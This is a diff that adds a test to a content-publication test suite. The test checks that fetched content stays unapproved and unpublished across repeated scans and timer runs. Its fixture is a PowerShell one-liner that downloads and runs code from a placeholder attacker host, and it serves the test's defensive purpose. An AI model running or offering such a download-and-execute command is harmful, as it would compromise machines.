@@ -81,6 +81,20 @@ test('F4 two servers that publish at the same moment, again and again, make exac
   expect(facts).toEqual({ releases: rounds, seq: rounds, versions: rounds });
 });
 
+test('T13 what a source brings is neither approved nor published by itself, however often it is scanned and the clock comes by', async () => {
+  const body = 'iex (New-Object Net.WebClient).DownloadString("http://evil.example/x")';
+  for (let round = 1; round <= 3; round += 1) {
+    one.central.contents = [{ guid: 'a', body: `${body} # ${round}` }];
+    await one.schedule.tick();
+    await one.scan();
+    const due = `update publication set next_due_at = now() - interval '1 second'`;
+    await one.side.dataSource.query(due);
+    const answer = await one.side.publisher.publish({ trigger: 'timer', actor: SYSTEM });
+    expect(answer).toMatchObject({ seq: 0, published: 0 });
+  }
+  expect(await one.items()).toMatchObject({ a: { approval: 'needs-approval' } });
+});
+
 test('a scan waits with what it found until the publication that runs has ended', async () => {
   one.central.contents = [{ guid: 'a', body: 'first' }];
   await one.scan();
